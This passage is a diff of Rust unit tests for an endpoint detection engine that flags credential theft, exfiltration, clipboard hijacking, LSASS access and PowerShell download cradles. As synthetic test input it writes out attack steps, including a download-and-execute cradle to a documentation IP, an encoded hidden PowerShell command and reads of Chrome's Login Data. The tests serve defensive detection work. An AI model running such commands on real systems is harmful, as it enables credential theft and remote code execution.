+    let fired = |incidents: &[Incident]| {
+      incidents
+        .iter()
+        .any(|i| i.findings.iter().any(|f| f.rule_id == "R009"))
+    };
+
+    // The reader exits; its sibling still uploads within the window.
+    let incidents = eng
+      .process(
+        &cfg,
+        &[
+          start(100, 0, "C:\\Temp\\dropper.exe", base),
+          start(200, 100, "C:\\Temp\\reader.exe", base + 100),
+          read(200, "C:\\Temp\\reader.exe", base + 200),
+          Event::ProcessExit {
+            pid: 200,
+            image_path: Some("C:\\Temp\\reader.exe".to_string()),
+            process_guid: None,
+            timestamp_unix_ms: base + 300,
+          },
+          start(300, 100, "C:\\Temp\\sender.exe", base + 400),
+          connect(300, "C:\\Temp\\sender.exe", base + 500),
+        ],
+      )
+      .unwrap();
+    assert!(fired(&incidents));
+
+    // The PID is reused by an unrelated process: the earlier read isn't its.
+    let incidents = eng
+      .process(
+        &cfg,
+        &[
+          start(200, 0, "C:\\Windows\\notepad.exe", base + 1_000),
+          connect(200, "C:\\Windows\\notepad.exe", base + 1_100),
+        ],
+      )
+      .unwrap();
+    assert!(!fired(&incidents));
+
+    // Exited processes are forgotten once the window has passed, unless they are ancestors of
+    // something still running.
+    let later = base + (cfg.correlation_window_seconds + 120) * 1000;
+    eng
+      .process(
+        &cfg,
+        &[
+          Event::ProcessExit {
+            pid: 300,
+            image_path: None,
+            process_guid: None,
+            timestamp_unix_ms: base + 2_000,
+          },
+          connect(200, "C:\\Windows\\notepad.exe", later),
+        ],
+      )
+      .unwrap();
+    assert!(!eng.procs.contains_key(&300));
+    assert!(eng.procs.contains_key(&100) && eng.procs.contains_key(&200));
+  }
+
+  #[test]
+  fn process_guids_tell_processes_with_the_same_pid_apart() {
+    let cfg = cfg();
+    let mut eng = Engine::new();
+    let base = 1_700_000_000_000u64;
+    let image = "C:\\Temp\\evil.exe";
+    let start = |pid: u32, ppid: u32, guid: &str, parent_guid: &str, ts: u64| Event::ProcessStart {
+      pid,
+      ppid,
+      image_path: image.to_string(),
+      signer_publisher: None,
+      command_line: None,
+      download_origin: None,
+      process_guid: Some(guid.to_string()),
+      parent_process_guid: Some(parent_guid.to_string()),
+      timestamp_unix_ms: ts,
+    };
+    let read = |pid: u32, guid: &str, ts: u64| Event::FileAccess {
+      pid,
+      image_path: Some(image.to_string()),
+      file_path: "C:\\Users\\User\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data"
+        .to_string(),
+      access: FileAccessType::Read,
+      process_guid: Some(guid.to_string()),
+      timestamp_unix_ms: ts,
+    };
+    let connect = |pid: u32, guid: &str, ts: u64| Event::NetConnect {
+      pid,
+      image_path: Some(image.to_string()),
+      dest_ip: IpAddr::from([1, 2, 3, 4]),
+      dest_port: 443,
+      dest_host: Some("upload.example".to_string()),
+      protocol: "tcp".to_string(),
+      process_guid: Some(guid.to_string()),
+      timestamp_unix_ms: ts,
+    };
+    let fired = |incidents: Vec<Incident>| {
+      incidents
+        .iter()
+        .any(|i| i.findings.iter().any(|f| f.rule_id == "R009"))
+    };
+
+    // Same PID, same image, different GUID: the start of the second process was missed.
+    let events = [read(500, "{A}", base), connect(500, "{B}", base + 1_000)];
+    assert!(!fired(eng.process(&cfg, &events).unwrap()));
+    let events = [
+      read(500, "{B}", base + 2_000),
+      connect(500, "{B}", base + 3_000),
+    ];
+    assert!(fired(eng.process(&cfg, &events).unwrap()));
+
+    // A child whose parent GUID isn't the recorded parent's is not in its tree, even though the
+    // start times would allow it.
+    let events = [
+      start(600, 0, "{P}", "{X}", base + 4_000),
+      read(600, "{P}", base + 4_100),
+      start(700, 600, "{C}", "{OTHER}", base + 4_200),
+      connect(700, "{C}", base + 4_300),
+    ];
+    assert!(!fired(eng.process(&cfg, &events).unwrap()));
+    let events = [
+      start(800, 600, "{D}", "{P}", base + 4_400),
+      connect(800, "{D}", base + 4_500),
+    ];
+    assert!(fired(eng.process(&cfg, &events).unwrap()));
+
+    // A late exit of the earlier process doesn't drop what the current one did.
+    let events = [
+      read(900, "{E}", base + 5_000),
+      Event::ProcessExit {
+        pid: 900,
+        image_path: Some(image.to_string()),
+        process_guid: Some("{EARLIER}".to_string()),
+        timestamp_unix_ms: base + 5_100,
+      },
+      connect(900, "{E}", base + 5_200),
+    ];
+    assert!(fired(eng.process(&cfg, &events).unwrap()));
+  }
+
+  #[test]
+  fn accesses_expire_without_a_process_entry() {
+    let cfg = cfg();
+    let mut eng = Engine::new();
+    let base = 1_700_000_000_000u64;
+    let read = |pid: u32, ts: u64| Event::FileAccess {
+      pid,
+      image_path: Some("C:\\Temp\\reader.exe".to_string()),
+      file_path: "C:\\Users\\User\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data"
+        .to_string(),
+      access: FileAccessType::Read,
+      process_guid: None,
+      timestamp_unix_ms: ts,
+    };
+
+    // No start event, and the PID is never seen again.
+    eng.process(&cfg, &[read(4242, base)]).unwrap();
+    assert!(eng.sensitive.contains_key(&4242) && eng.enum_hits.contains_key(&4242));
+    eng.procs.remove(&4242);
+
+    let later = base + (cfg.correlation_window_seconds + 120) * 1000;
+    eng.process(&cfg, &[read(4343, later)]).unwrap();
+    assert!(!eng.sensitive.contains_key(&4242) && !eng.enum_hits.contains_key(&4242));
+    assert!(eng.sensitive.contains_key(&4343));
+  }
+
+  #[test]
+  fn children_keep_their_ancestors_across_parent_pid_reuse() {
+    let cfg = cfg();
+    let mut eng = Engine::new();
+    let base = 1_700_000_000_000u64;
+    let start = |pid: u32, ppid: u32, image: &str, guid: &str, parent_guid: &str, ts: u64| {
+      Event::ProcessStart {
+        pid,
+        ppid,
+        image_path: image.to_string(),
+        signer_publisher: None,
+        command_line: None,
+        download_origin: None,
+        process_guid: Some(guid.to_string()),
+        parent_process_guid: Some(parent_guid.to_string()),
+        timestamp_unix_ms: ts,
+      }
+    };
+    let connect = |pid: u32, guid: &str, ts: u64| Event::NetConnect {
+      pid,
+      image_path: None,
+      dest_ip: IpAddr::from([1, 2, 3, 4]),
+      dest_port: 443,
+      dest_host: Some("upload.example".to_string()),
+      protocol: "tcp".to_string(),
+      process_guid: Some(guid.to_string()),
+      timestamp_unix_ms: ts,
+    };
+
+    // The dropper exits and its PID goes to an unrelated process while its child keeps running.
+    eng
+      .process(
+        &cfg,
+        &[
+          start(600, 0, "C:\\Temp\\dropper.exe", "{P}", "{X}", base),
+          start(700, 600, "C:\\Temp\\child.exe", "{C}", "{P}", base + 100),
+          start(
+            600,
+            0,
+            "C:\\Windows\\notepad.exe",
+            "{Q}",
+            "{Y}",
+            base + 2_000,
+          ),
+        ],
+      )
+      .unwrap();
+    let lineage: Vec<String> = eng
+      .lineage_evidence(700)
+      .into_iter()
+      .filter_map(|e| match e {
+        Evidence::Process { image_path, .. } => Some(image_path),
+        _ => None,
+      })
+      .collect();
+    assert_eq!(lineage, ["C:\\Temp\\child.exe", "C:\\Temp\\dropper.exe"]);
+    assert_eq!(eng.tree(700), (600, base));
+    assert_ne!(eng.tree(600), eng.tree(700));
+
+    // The retired dropper stays while its child does; both go once the child has been quiet for
+    // `PROCESS_IDLE_MS`.
+    eng
+      .process(&cfg, &[connect(700, "{C}", base + 3_000)])
+      .unwrap();
+    assert!(eng.retired.contains_key(&600));
+    let later = base + 3_000 + PROCESS_IDLE_MS + 120_000;
+    eng.process(&cfg, &[connect(600, "{Q}", later)]).unwrap();
+    assert!(!eng.procs.contains_key(&700));
+    assert!(eng.retired.is_empty());
+  }
+
   #[test]
   fn correlation_does_not_fire_outside_window() {
     let mut cfg = cfg();
@@ -412,6 +2212,10 @@ mod tests {
         ppid: 0,
         image_path: "C:\\Temp\\evil.exe".to_string(),
         signer_publisher: None,
+        command_line: None,
+        download_origin: None,
+        process_guid: None,
+        parent_process_guid: None,
         timestamp_unix_ms: base,
       },
       Event::FileAccess {
@@ -419,15 +2223,17 @@ mod tests {
         image_path: Some("C:\\Temp\\evil.exe".to_string()),
         file_path,
         access: FileAccessType::Read,
+        process_guid: None,
         timestamp_unix_ms: base,
       },
       Event::NetConnect {
         pid,
         image_path: Some("C:\\Temp\\evil.exe".to_string()),
-        dest_ip: "1.2.3.4".to_string(),
+        dest_ip: IpAddr::from([1, 2, 3, 4]),
         dest_port: 443,
         dest_host: None,
         protocol: "tcp".to_string(),
+        process_guid: None,
         timestamp_unix_ms: base + 5_000,
       },
     ];
@@ -438,6 +2244,343 @@ mod tests {
       .any(|i| i.findings.iter().any(|f| f.rule_id == "R009")));
   }
 
+  fn start(pid: u32, ppid: u32, image: &str, ts: u64) -> Event {
+    Event::ProcessStart {
+      pid,
+      ppid,
+      image_path: image.to_string(),
+      signer_publisher: None,
+      command_line: None,
+      download_origin: None,
+      process_guid: None,
+      parent_process_guid: None,
+      timestamp_unix_ms: ts,
+    }
+  }
+
+  fn read_login_data(pid: u32, ts: u64) -> Event {
+    Event::FileAccess {
+      pid,
+      image_path: None,
+      file_path: "C:\\Users\\User\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data"
+        .to_string(),
+      access: FileAccessType::Read,
+      process_guid: None,
+      timestamp_unix_ms: ts,
+    }
+  }
+
+  fn connect(pid: u32, ts: u64) -> Event {
+    Event::NetConnect {
+      pid,
+      image_path: None,
+      dest_ip: IpAddr::from([1, 2, 3, 4]),
+      dest_port: 443,
+      dest_host: Some("exfil.example".to_string()),
+      protocol: "tcp".to_string(),
+      process_guid: None,
+      timestamp_unix_ms: ts,
+    }
+  }
+
+  #[test]
+  fn correlation_spans_sibling_processes_in_same_tree() {
+    let cfg = cfg();
+    let mut eng = Engine::with_self_exclusion(SelfExclusion::default());
+    let base = 1_700_000_000_000u64;
+
+    let events = vec![
+      start(100, 4, "C:\\Windows\\explorer.exe", base),
+      start(200, 100, "C:\\Temp\\dropper.exe", base + 1),
+      start(201, 200, "C:\\Temp\\reader.exe", base + 2),
+      start(202, 200, "C:\\Temp\\sender.exe", base + 3),
+      // Unrelated process with the same Explorer parent.
+      start(300, 100, "C:\\Tools\\updater.exe", base + 4),
+      read_login_data(201, base + 1_000),
+      connect(300, base + 1_500),
+      connect(202, base + 2_000),
+    ];
+
+    let incidents = eng.process(&cfg, &events).unwrap();
+    let r009: Vec<&Finding> = incidents
+      .iter()
+      .flat_map(|i| &i.findings)
+      .filter(|f| f.rule_id == "R009")
+      .collect();
+    assert_eq!(r009.len(), 1);
+    assert!(matches!(
+      r009[0].evidence[0],
+      Evidence::File { pid: 201, .. }
+    ));
+    assert!(r009[0]
+      .evidence
+      .iter()
+      .any(|e| matches!(e, Evidence::Correlation { pid: 202, .. })));
+  }
+
+  #[test]
+  fn reused_parent_pid_does_not_join_trees() {
+    let cfg = cfg();
+    let mut eng = Engine::with_self_exclusion(SelfExclusion::default());
+    let base = 1_700_000_000_000u64;
+
+    let events = vec![
+      start(200, 100, "C:\\Temp\\reader.exe", base),
+      // PID 100 started after its "child": a reused PID, not the real parent.
+      start(100, 4, "C:\\Temp\\other.exe", base + 10),
+      start(202, 100, "C:\\Temp\\sender.exe", base + 20),
+      read_login_data(200, base + 1_000),
+      connect(202, base + 2_000),
+    ];
+
+    let incidents = eng.process(&cfg, &events).unwrap();
+    assert!(!incidents
+      .iter()
+      .any(|i| i.findings.iter().any(|f| f.rule_id == "R009")));
+  }
+
+  fn dns(pid: u32, name: &str, ts: u64) -> Event {
+    Event::DnsQuery {
+      pid,
+      image_path: None,
+      query_name: name.to_string(),
+      query_results: Some("203.0.113.7;".to_string()),
+      timestamp_unix_ms: ts,
+    }
+  }
+
+  #[test]
+  fn wallet_drain_command_line_pattern_raises_r023() {
+    use crate::threat_feed::schema::{DrainPatternTarget, WalletDrainPattern};
+    let cfg = cfg();
+    let mut eng = Engine::with_self_exclusion(SelfExclusion::default());
+    eng.set_reputation(ReputationLists {
+      wallet_drain_patterns: vec![WalletDrainPattern {
+        id: "clipper-1".to_string(),
+        target: DrainPatternTarget::CommandLine,
+        all_of: vec!["Set-Clipboard".to_string(), "bc1q".to_string()],
+        description: None,
+      }],
+      ..ReputationLists::default()
+    });
+    let base = 1_700_000_000_000u64;
+    let with_cmd = |pid, cmd: &str| Event::ProcessStart {
+      pid,
+      ppid: 0,
+      image_path: "C:\\Temp\\x.exe".to_string(),
+      signer_publisher: None,
+      command_line: Some(cmd.to_string()),
+      download_origin: None,
+      process_guid: None,
+      parent_process_guid: None,
+      timestamp_unix_ms: base,
+    };
+
+    let incidents = eng
+      .process(
+        &cfg,
+        &[
+          with_cmd(1, "powershell set-clipboard -value bc1qxyz"),
+          with_cmd(2, "powershell Get-Clipboard"),
+        ],
+      )
+      .unwrap();
+    assert_eq!(incidents.len(), 1);
+    assert_eq!(incidents[0].findings[0].rule_id, "R023");
+    assert_eq!(incidents[0].severity, Severity::Red);
+  }
+
+  #[test]
+  fn clipboard_address_swap_by_another_process_raises_r024() {
+    let cfg = cfg();
+    let mut eng = Engine::with_self_exclusion(SelfExclusion::default());
+    let base = 1_700_000_000_000u64;
+    let copied = "0x71C7656EC7ab88b098defB751B7401B5f6d8976F";
+    let swapped = "0x9a1B5f6d8976F71C7656EC7ab88b098defB751B7";
+    let clip = |pid: u32, address: Option<&str>, ts: u64| Event::ClipboardChange {
+      pid,
+      image_path: Some(format!("C:\\Temp\\{pid}.exe")),
+      address: address.map(str::to_string),
+      timestamp_unix_ms: ts,
+    };
+
+    let incidents = eng
+      .process(
+        &cfg,
+        &[
+          clip(10, Some(copied), base),
+          clip(66, Some(swapped), base + 150),
+          // Same process copying another address, and a swap long after the copy: not a hijack.
+          clip(66, Some(copied), base + 200),
+          clip(10, Some(copied), base + 60_000),
+          clip(20, Some(swapped), base + 70_000),
+          // Text that isn't an address resets the comparison.
+          clip(10, None, base + 80_000),
+          clip(66, Some(swapped), base + 80_100),
+        ],
+      )
+      .unwrap();
+    assert_eq!(incidents.len(), 1);
+    let finding = &incidents[0].findings[0];
+    assert_eq!(finding.rule_id, "R024");
+    assert_eq!(finding.severity, Severity::Red);
+    let Evidence::Clipboard {
+      pid,
+      previous_pid,
+      previous,
+      current,
+      ..
+    } = &finding.evidence[0]
+    else {
+      panic!("expected clipboard evidence");
+    };
+    assert_eq!((*pid, *previous_pid), (66, 10));
+    assert_eq!(
+      (previous.as_str(), current.as_str()),
+      ("0x71C7...", "0x9a1B...")
+    );
+  }
+
+  #[test]
+  fn lsass_memory_access_raises_r026_with_lineage() {
+    let cfg = cfg();
+    let mut eng = Engine::with_self_exclusion(SelfExclusion::default());
+    let base = 1_700_000_000_000u64;
+    let lsass = "C:\\Windows\\System32\\lsass.exe";
+    let open = |pid: u32, image: &str, mask: u32, ts: u64| Event::ProcessAccess {
+      pid,
+      image_path: Some(image.to_string()),
+      target_pid: 640,
+      target_image: lsass.to_string(),
+      granted_access: mask,
+      timestamp_unix_ms: ts,
+    };
+
+    let incidents = eng
+      .process(
+        &cfg,
+        &[
+          start(300, 0, "C:\\Windows\\System32\\cmd.exe", base),
+          start(301, 300, "C:\\Temp\\procdump64.exe", base + 10),
+          open(301, "C:\\Temp\\procdump64.exe", 0x1fffff, base + 20),
+          // Query-only access and Windows components are routine.
+          open(301, "C:\\Temp\\procdump64.exe", 0x1000, base + 30),
+          open(900, "C:\\Windows\\System32\\svchost.exe", 0x1410, base + 40),
+        ],
+      )
+      .unwrap();
+    assert_eq!(incidents.len(), 1);
+    let finding = &incidents[0].findings[0];
+    assert_eq!(finding.rule_id, "R026");
+    assert_eq!(finding.severity, Severity::Red);
+    let lineage: Vec<u32> = finding
+      .evidence
+      .iter()
+      .filter_map(|e| match e {
+        Evidence::Process { pid, .. } => Some(*pid),
+        _ => None,
+      })
+      .collect();
+    assert_eq!(lineage, vec![301, 300]);
+  }
+
+  #[test]
+  fn powershell_cradle_then_connection_raises_r029_and_r030() {
+    let cfg = cfg();
+    let mut eng = Engine::with_self_exclusion(SelfExclusion::default());
+    let base = 1_700_000_000_000u64;
+    let ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
+    let block = |pid: u32, text: &str, ts: u64| Event::ScriptBlock {
+      pid,
+      script_block_id: "5a1e6f7c".to_string(),
+      part: 1,
+      parts: 1,
+      text: text.to_string(),
+      path: None,
+      timestamp_unix_ms: ts,
+    };
+
+    let incidents = eng
+      .process(
+        &cfg,
+        &[
+          start(100, 4, "C:\\Windows\\explorer.exe", base),
+          start(400, 100, ps, base + 10),
+          block(400, "Get-ChildItem $env:TEMP | Remove-Item", base + 20),
+          block(
+            400,
+            "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')",
+            base + 30,
+          ),
+          start(401, 400, "C:\\Temp\\stage2.exe", base + 40),
+          connect(401, base + 1_000),
+          // Reported once per flagged script.
+          connect(401, base + 1_500),
+        ],
+      )
+      .unwrap();
+    let rule_ids: Vec<&str> = incidents
+      .iter()
+      .flat_map(|i| i.findings.iter().map(|f| f.rule_id.as_str()))
+      .collect();
+    assert_eq!(rule_ids, vec!["R029", "R030"]);
+    assert_eq!(incidents[1].severity, Severity::Red);
+    assert!(matches!(
+      &incidents[1].findings[0].evidence[0],
+      Evidence::Script { pid: 400, marker, .. } if marker == "downloadstring("
+    ));
+
+    let encoded = Event::ProcessStart {
+      pid: 500,
+      ppid: 100,
+      image_path: ps.to_string(),
+      signer_publisher: Some("Microsoft Windows".to_string()),
+      command_line: Some(
+        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="
+          .to_string(),
+      ),
+      download_origin: None,
+      process_guid: None,
+      parent_process_guid: None,
+      timestamp_unix_ms: base + 2_000,
+    };
+    let incidents = eng.process(&cfg, &[encoded]).unwrap();
+    assert_eq!(incidents.len(), 1);
+    assert_eq!(incidents[0].findings[0].rule_id, "R027");
+  }
+
+  #[test]
+  fn dns_rules_flag_blocklisted_and_generated_domains() {
+    let cfg = cfg();
+    let mut eng = Engine::with_self_exclusion(SelfExclusion::default());
+    eng.set_reputation(ReputationLists {
+      domains_block: vec!["drainer.example".to_string()],
+      ..ReputationLists::default()
+    });
+    let base = 1_700_000_000_000u64;
+
+    let events = vec![
+      start(100, 0, "C:\\Temp\\evil.exe", base),
+      start(101, 0, "C:\\Tools\\other.exe", base),
+      // Blocklisted: any process, no prior access needed.
+      dns(101, "api.drainer.example.", base + 10),
+      // DGA-like without sensitive access: nothing.
+      dns(100, "xjw9kq2vbz7hd.top", base + 20),
+      read_login_data(100, base + 1_000),
+      dns(100, "www.example.com", base + 1_500),
+      dns(100, "xjw9kq2vbz7hd.top", base + 2_000),
+    ];
+
+    let incidents = eng.process(&cfg, &events).unwrap();
+    let dns_rules: Vec<&str> = incidents
+      .iter()
+      .flat_map(|i| &i.findings)
+      .map(|f| f.rule_id.as_str())
+      .filter(|r| *r == "R016" || *r == "R017")
+      .collect();
+    assert_eq!(dns_rules, vec!["R016", "R017"]);
+  }
+
   #[test]
   fn browser_self_access_produces_no_incident() {
     let cfg = cfg();
@@ -454,6 +2597,10 @@ mod tests {
         ppid: 0,
         image_path: "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe".to_string(),
         signer_publisher: Some("Google LLC".to_string()),
+        command_line: None,
+        download_origin: None,
+        process_guid: None,
+        parent_process_guid: None,
         timestamp_unix_ms: base,
       },
       Event::FileAccess {
@@ -461,15 +2608,17 @@ mod tests {
         image_path: Some("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe".to_string()),
         file_path,
         access: FileAccessType::Read,
+        process_guid: None,
         timestamp_unix_ms: base + 1_000,
       },
       Event::NetConnect {
         pid,
         image_path: Some("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe".to_string()),
-        dest_ip: "1.2.3.4".to_string(),
+        dest_ip: IpAddr::from([1, 2, 3, 4]),
         dest_port: 443,
         dest_host: Some("example.com".to_string()),
         protocol: "tcp".to_string(),
+        process_guid: None,
         timestamp_unix_ms: base + 2_000,
       },
     ];
@@ -494,6 +2643,10 @@ mod tests {
         ppid: 0,
         image_path: "C:\\Temp\\backup-tool.exe".to_string(),
         signer_publisher: Some("  gOoGlE llC  ".to_string()),
+        command_line: None,
+        download_origin: None,
+        process_guid: None,
+        parent_process_guid: None,
         timestamp_unix_ms: base,
       },
       Event::FileAccess {
@@ -501,19 +2654,252 @@ mod tests {
         image_path: Some("C:\\Temp\\backup-tool.exe".to_string()),
         file_path,
         access: FileAccessType::Read,
+        process_guid: None,
+        timestamp_unix_ms: base + 1_000,
+      },
+    ];
+
+    let incidents = eng.process(&cfg, &events).unwrap();
+    assert!(incidents.is_empty());
+  }
+
+  #[test]
+  fn own_binaries_are_excluded_from_detection() {
+    let cfg = cfg();
+    let own = std::env::current_exe().unwrap();
+    let own_path = own.to_string_lossy().to_string();
+    let mut eng = Engine::with_self_exclusion(SelfExclusion::from_paths(&[own]));
+    let pid = 4001;
+    let base = 1_700_000_000_000u64;
+
+    let events = vec![
+      Event::ProcessStart {
+        pid,
+        ppid: 0,
+        image_path: own_path.clone(),
+        signer_publisher: None,
+        command_line: None,
+        download_origin: None,
+        process_guid: None,
+        parent_process_guid: None,
+        timestamp_unix_ms: base,
+      },
+      Event::FileAccess {
+        pid,
+        image_path: Some(own_path.clone()),
+        file_path:
+          "C:\\Users\\User\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data"
+            .to_string(),
+        access: FileAccessType::Read,
+        process_guid: None,
         timestamp_unix_ms: base + 1_000,
       },
+      Event::NetConnect {
+        pid,
+        image_path: Some(own_path),
+        dest_ip: IpAddr::from([1, 2, 3, 4]),
+        dest_port: 443,
+        dest_host: Some("updates.aidefender.shop".to_string()),
+        protocol: "tcp".to_string(),
+        process_guid: None,
+        timestamp_unix_ms: base + 2_000,
+      },
     ];
 
     let incidents = eng.process(&cfg, &events).unwrap();
     assert!(incidents.is_empty());
   }
 
+  #[test]
+  fn hash_pinned_binary_is_allowlisted() {
+    let exe = std::env::current_exe().unwrap();
+    let copy = std::env::temp_dir().join(format!("aid-pin-{}.bin", uuid::Uuid::new_v4()));
+    std::fs::copy(&exe, &copy).unwrap();
+    let image = copy.to_string_lossy().to_string();
+    let hash = defender_common::hash::sha256_hex(&copy).unwrap();
+
+    let mut cfg = cfg();
+    let mut eng = Engine::with_self_exclusion(SelfExclusion::default());
+    let event = |pid: u32| Event::FileAccess {
+      pid,
+      image_path: Some(image.clone()),
+      file_path: "C:\\Users\\User\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data"
+        .to_string(),
+      access: FileAccessType::Read,
+      process_guid: None,
+      timestamp_unix_ms: 1_700_000_000_000,
+    };
+
+    let unpinned = eng.process(&cfg, &[event(5001)]).unwrap();
+    cfg.allowlist.hashes = vec![hash.to_ascii_uppercase()];
+    let pinned = eng.process(&cfg, &[event(5002)]).unwrap();
+
+    // A full cache starts over rather than growing.
+    for i in 0..self_exclusion::MAX_CACHED_IMAGES {
+      eng.hash_cache.insert(
+        format!("c:\\images\\{i}.exe"),
+        CachedHash {
+          modified: None,
+          len: 0,
+          sha256: None,
+        },
+      );
+    }
+    eng.hash_cache.remove(&self_exclusion::normalize(&image));
+    let still_pinned = eng.hash_allowlisted(&cfg.allowlist, &image);
+    let _ = std::fs::remove_file(&copy);
+
+    assert!(!unpinned.is_empty());
+    assert!(pinned.is_empty());
+    assert!(still_pinned);
+    assert_eq!(eng.hash_cache.len(), 1);
+  }
+
+  #[test]
+  fn extension_sideloading_produces_findings() {
+    let cfg = cfg();
+    let mut eng = Engine::with_self_exclusion(SelfExclusion::default());
+    let chrome = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe".to_string();
+
+    let events = vec![
+      Event::ProcessStart {
+        pid: 6001,
+        ppid: 0,
+        image_path: chrome.clone(),
+        signer_publisher: Some("Google LLC".to_string()),
+        command_line: Some(format!("\"{chrome}\" --load-extension=C:\\Temp\\ext")),
+        download_origin: None,
+        process_guid: None,
+        parent_process_guid: None,
+        timestamp_unix_ms: 1_700_000_000_000,
+      },
+      Event::ProcessStart {
+        pid: 6002,
+        ppid: 0,
+        image_path: chrome.clone(),
+        signer_publisher: Some("Google LLC".to_string()),
+        command_line: Some(format!("\"{chrome}\" --profile-directory=Default")),
+        download_origin: None,
+        process_guid: None,
+        parent_process_guid: None,
+        timestamp_unix_ms: 1_700_000_000_000,
+      },
+      Event::RegistrySet {
+        pid: 6003,
+        image_path: Some("C:\\Temp\\evil.exe".to_string()),
+        key_path: "HKLM\\SOFTWARE\\Policies\\Google\\Chrome\\ExtensionInstallForcelist\\1"
+          .to_string(),
+        value: Some("abc;https://example.invalid/u.xml".to_string()),
+        timestamp_unix_ms: 1_700_000_000_000,
+      },
+      Event::RegistrySet {
+        pid: 6003,
+        image_path: Some("C:\\Temp\\evil.exe".to_string()),
+        key_path: "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x".to_string(),
+        value: None,
+        timestamp_unix_ms: 1_700_000_000_000,
+      },
+    ];
+
+    let incidents = eng.process(&cfg, &events).unwrap();
+    let rules: Vec<&str> = incidents
+      .iter()
+      .flat_map(|i| i.findings.iter().map(|f| f.rule_id.as_str()))
+      .collect();
+    assert_eq!(rules, vec!["R011", "R012"]);
+  }
+
+  #[test]
+  fn unsigned_proxy_and_dns_changes_produce_findings_with_before_value() {
+    let cfg = cfg();
+    let mut eng = Engine::with_self_exclusion(SelfExclusion::default());
+    let pac = "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\AutoConfigURL";
+    let dns =
+      "HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\{1}\\NameServer";
+    let set = |pid: u32, key: &str, value: &str| Event::RegistrySet {
+      pid,
+      image_path: Some("C:\\Temp\\evil.exe".to_string()),
+      key_path: key.to_string(),
+      value: Some(value.to_string()),
+      timestamp_unix_ms: 1_700_000_000_000,
+    };
+
+    let events = vec![
+      Event::ProcessStart {
+        pid: 7001,
+        ppid: 0,
+        image_path: "C:\\Windows\\System32\\netsh.exe".to_string(),
+        signer_publisher: Some("Microsoft Corporation".to_string()),
+        command_line: None,
+        download_origin: None,
+        process_guid: None,
+        parent_process_guid: None,
+        timestamp_unix_ms: 1_700_000_000_000,
+      },
+      // Signed writer: recorded as the baseline value, no finding.
+      set(7001, dns, "10.0.0.1"),
+      set(7002, dns, "203.0.113.53"),
+      // Same value rewritten: no change, no finding.
+      set(7002, dns, "203.0.113.53"),
+      set(7002, pac, "http://203.0.113.9/proxy.pac"),
+    ];
+
+    let incidents = eng.process(&cfg, &events).unwrap();
+    let findings: Vec<&Finding> = incidents.iter().flat_map(|i| &i.findings).collect();
+    assert_eq!(findings.len(), 2);
+    assert_eq!(findings[0].rule_id, "R015");
+    assert_eq!(findings[1].rule_id, "R014");
+    match &findings[0].evidence[0] {
+      Evidence::SettingChange { before, after, .. } => {
+        assert_eq!(before.as_deref(), Some("10.0.0.1"));
+        assert_eq!(after.as_deref(), Some("203.0.113.53"));
+      }
+      other => panic!("unexpected evidence: {other:?}"),
+    }
+  }
+
+  #[test]
+  fn destination_allowlist_matches_cidr_and_ipv6() {
+    let a = AllowlistConfig {
+      destinations: vec![
+        "203.0.113.0/24".to_string(),
+        "2001:db8::/32".to_string(),
+        "bogus".to_string(),
+      ],
+      ..AllowlistConfig::default()
+    };
+
+    assert!(destination_allowlisted(&a, &IpAddr::from([203, 0, 113, 9])));
+    assert!(destination_allowlisted(
+      &a,
+      &"2001:db8:1::5".parse::<IpAddr>().unwrap()
+    ));
+    assert!(!destination_allowlisted(&a, &IpAddr::from([1, 2, 3, 4])));
+  }
+
+  #[test]
+  fn local_destinations_are_excluded_unless_disabled() {
+    let mut a = AllowlistConfig::default();
+    assert!(destination_allowlisted(&a, &IpAddr::from([127, 0, 0, 1])));
+    assert!(destination_allowlisted(
+      &a,
+      &IpAddr::from([192, 168, 1, 10])
+    ));
+
+    a.exclude_loopback_destinations = false;
+    a.exclude_private_destinations = false;
+    assert!(!destination_allowlisted(&a, &IpAddr::from([127, 0, 0, 1])));
+    assert!(!destination_allowlisted(
+      &a,
+      &IpAddr::from([192, 168, 1, 10])
+    ));
+  }
+
   #[test]
   fn publisher_allowlist_normalizes_case_and_whitespace() {
     let a = AllowlistConfig {
       publishers: vec!["Google LLC".to_string()],
-      paths_allowlist: vec![],
+      ..AllowlistConfig::default()
     };
 
     assert!(publisher_allowlisted(&a, Some("google llc")));